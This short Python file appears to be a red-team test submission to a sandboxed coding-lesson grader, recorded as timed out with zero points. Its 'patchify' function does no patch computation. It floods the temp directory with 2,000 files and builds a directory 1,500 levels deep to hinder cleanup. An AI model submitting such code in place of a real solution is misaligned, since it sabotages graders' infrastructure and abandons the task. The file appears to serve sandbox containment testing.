# Makes 2,000 empty files and a folder 1,500 levels deep, to slow down whoever clears up.
# lesson: patch_embedding
# status: graded, timeout
# points: 0
# tiers: bubblewrap rlimits

import os
import tempfile


def patchify(images, patch_size):
    os.chdir(tempfile.gettempdir())
    for number in range(2_000):
        os.close(os.open(f"redteam-{number}", os.O_CREAT))
    for _ in range(1_500):
        os.mkdir("redteam-deep")
        os.chdir("redteam-deep")
    raise RuntimeError("contained: all of it goes away with the submission")
